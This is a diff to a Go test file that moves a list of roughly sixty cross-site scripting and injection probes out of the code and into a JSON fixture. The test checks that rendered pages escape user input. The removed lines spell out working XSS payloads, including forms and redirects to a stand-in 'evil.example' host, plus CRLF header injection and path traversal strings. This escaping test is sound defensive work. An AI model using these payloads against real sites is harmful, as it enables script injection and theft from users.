@@ -5,27 +5,21 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
 	"regexp"
 	"strings"
 	"testing"
 )
 
-// probes are what somebody may write to become a part of a page.
-func probes() []string {
-	list := []string{
-		`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)>`,
-		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<body onload=alert(1)>`, `<iframe src=javascript:alert(1)>`,
-		`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `" onmouseover="alert(1)`,
-		`' onfocus='alert(1)' autofocus='`, "` onload=alert(1) x=`", `{{.}}`, `{{template "layout" .}}`, `${alert(1)}`, `<!--<script>`, `--><script>alert(1)</script>`,
-		`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `<style>*{display:none}</style>`,
-		`<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example>`,
-		`<form action=//evil.example><button>x`, `<input onfocus=alert(1) autofocus>`, `<video src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`,
-		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<template><script>alert(1)</script></template>`, `<object data=//evil.example>`,
-		`<applet code=//evil.example>`, `<try-call data-to=//evil.example>`, `<live-region every=0>`, `<tab-set>`, "\u2028alert(1)\u2029", "\x00<script>", "<scr\x00ipt>alert(1)</script>",
-		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003e`, `<ſcript>alert(1)</ſcript>`,
-		`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `]]><script>alert(1)</script>`, `<?xml version="1.0"?><x/>`, `<x onclick=alert(1)>x`, `<button popovertarget=x>`,
-		`<button commandfor="revoke" command="show-modal">`, `x" command="show-modal" commandfor="revoke`, `x" name="do" value="revoke`, `../../admin`, `..%2f..%2fadmin`, `?done=token-revoked`, `#"><script>`,
-		"a\r\nSet-Cookie: relay=x", "\u202etxt.exe", strings.Repeat("<b>", 500),
+// probes are what somebody may write to become a part of a page. The tests in a browser have the same.
+func probes(t *testing.T) (list []string) {
+	t.Helper()
+	raw, err := os.ReadFile("testdata/probes.json")
+	if err == nil {
+		err = json.Unmarshal(raw, &list)
+	}
+	if err != nil || len(list) < 60 {
+		t.Fatalf("%d probes, %v", len(list), err)
 	}
 	return list
 }
@@ -81,7 +75,7 @@ func TestWhatOthersWroteIsText(t *testing.T) {
 		}
 	}
 	plain := pagesWith("harmless")
-	for i, probe := range probes() {
+	for i, probe := range probes(t) {
 		for name, body := range pagesWith(probe) {
 			if got, want := len(tag.FindAllString(body, -1)), len(tag.FindAllString(plain[name], -1)); got != want {
 				t.Errorf("probe %d %.40q: %s has %d tags, want %d", i, probe, name, got, want)
